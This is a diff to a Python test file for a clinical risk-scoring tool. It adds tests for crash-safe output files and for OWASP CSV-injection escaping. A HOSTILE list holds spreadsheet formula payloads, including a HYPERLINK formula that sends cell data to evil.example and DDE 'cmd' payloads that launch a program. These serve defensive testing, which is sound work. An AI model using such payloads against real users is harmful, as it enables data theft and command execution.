@@ -263,7 +263,7 @@ def test_unreadable_cohort_and_bad_output_name_are_input_errors(tmp_path, model)
     (tmp_path / "c").mkdir()
     (tmp_path / "c" / "patients.parquet").write_text("not parquet")
     (tmp_path / "c" / "labs.parquet").write_text("not parquet")
-    with pytest.raises(ScoringError, match="Cannot read the cohort"):
+    with pytest.raises(CohortError, match=r"Cannot read .*patients\.parquet as Parquet"):
         canonical_source(tmp_path / "c", ["IL6"])
     with pytest.raises(ScoringError, match=r"\.csv or \.parquet"):
         score_cohort(tmp_path / "c", "", tmp_path / "s.xlsx", model=model, landmarks=[24.0])
@@ -364,3 +364,80 @@ def test_as_of_latest_outside_the_trained_landmarks_gets_a_status_and_one_warnin
     summary, _ = _score(tmp_path, model, every_status, name="l.parquet", landmarks=[48.0, 200.0])
     assert summary["warnings"] == ["landmark 200 h outside the landmarks the model was trained on (24, 48, 72 h, "
                                    "±12 h): scored as asked, but the model never saw such a time"]
+
+
+# ----------------------------------------------------------------------------- crash consistency (issue 15)
+
+def _temporaries(out):
+    return sorted(p.name for p in out.parent.iterdir() if p.name.startswith(f".{out.name}."))
+
+
+def test_csv_after_a_killed_run_with_the_same_pid_holds_only_the_new_rows(tmp_path, model, every_status):
+    """In a container `crs` is PID 1 on every run, so a killed run's temporary carries the next run's
+    pid; its rows must never reach the next run's output."""
+    import os
+
+    _, earlier = _score(tmp_path, model, every_status, name="earlier.csv")
+    killed = (tmp_path / "earlier.csv").read_bytes()
+    stale = tmp_path / f".s.csv.partial-{os.getpid()}"  # the name a killed run with this pid left
+    stale.write_bytes(killed[:len(killed) // 2])
+    summary, out = _score(tmp_path, model, every_status, name="s.csv")
+    assert len(out) == summary["rows_written"] == len(every_status.patients) * len(LANDMARKS)
+    assert not out.duplicated(["patient_id", "landmark_hours"]).any() and out["scored_at"].nunique() == 1
+    assert _temporaries(tmp_path / "s.csv") == []
+
+
+def test_killed_scoring_run_leaves_no_output_and_the_next_run_cleans_up(tmp_path, model, bundle, every_status):
+    import subprocess
+    import sys
+
+    from tests.conftest import ROOT
+
+    bundle.save(tmp_path / "bundle")
+    folder = _folder(tmp_path, every_status, ["ALL-QUARANTINED"])
+    out = tmp_path / "s.csv"
+    child = f"""
+from tests.faults import inject
+inject(kill_before=["scoring.batch:predict_cohort@3"])  # SIGKILL while the third chunk is scored
+from models.bundle import ModelBundle
+from scoring.batch import LoadedModel, score_cohort
+model = LoadedModel(ModelBundle.load({str(tmp_path / "bundle")!r}), "severe-crs", "3", "champion", "")
+score_cohort({str(folder)!r}, "", {str(out)!r}, model=model, landmarks=[24.0, 48.0], chunk_patients=5,
+             progress=False)
+"""
+    proc = subprocess.run([sys.executable, "-c", child], cwd=ROOT, capture_output=True, text=True, timeout=300)
+    assert proc.returncode == -9, proc.stderr
+    assert not out.exists() and len(_temporaries(out)) == 1  # the killed run's half-written temporary
+    summary, frame = _score(tmp_path, model, every_status, name="s.csv")
+    assert len(frame) == summary["rows_written"] == len(every_status.patients) * len(LANDMARKS)
+    assert _temporaries(out) == []
+
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0",
+           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_escaped(tmp_path, model, every_status):
+    """OWASP CSV injection: text cells starting with = + - @ tab or CR get a leading apostrophe in
+    CSV output (a spreadsheet shows them as text); Parquet keeps the exact ids."""
+    import csv
+
+    ids = every_status.patients["patient_id"].head(len(HOSTILE)).tolist()
+    rename = dict(zip(ids, HOSTILE, strict=True))
+    cohort = Cohort(every_status.labs.assign(patient_id=every_status.labs["patient_id"].replace(rename)),
+                    every_status.patients.assign(patient_id=every_status.patients["patient_id"].replace(rename)),
+                    every_status.events.assign(patient_id=every_status.events["patient_id"].replace(rename)), {})
+    _, frame = _score(tmp_path, model, cohort, name="s.csv", reasons="all")
+    assert set(frame["patient_id"]) >= {"'" + h for h in HOSTILE}
+    assert not set(frame["patient_id"]) & set(HOSTILE)
+    with open(tmp_path / "s.csv", newline="") as fh:
+        rows = list(csv.reader(fh))
+    header, body = rows[0], rows[1:]
+    assert len(body) == len(cohort.patients) * len(LANDMARKS)  # a CR inside a cell did not split a row
+    text = [i for i, c in enumerate(header) if c in ("patient_id", "status", "risk_band", "top_drivers")
+            or c.endswith(("_text", "_feature")) or c in MODEL_COLUMNS]
+    for row in body:
+        for i in text:
+            assert not row[i].startswith(("=", "+", "-", "@", "\t", "\r")), (header[i], row[i])
+    _, parquet = _score(tmp_path, model, cohort, name="s.parquet")
+    assert set(parquet["patient_id"]) >= set(HOSTILE)
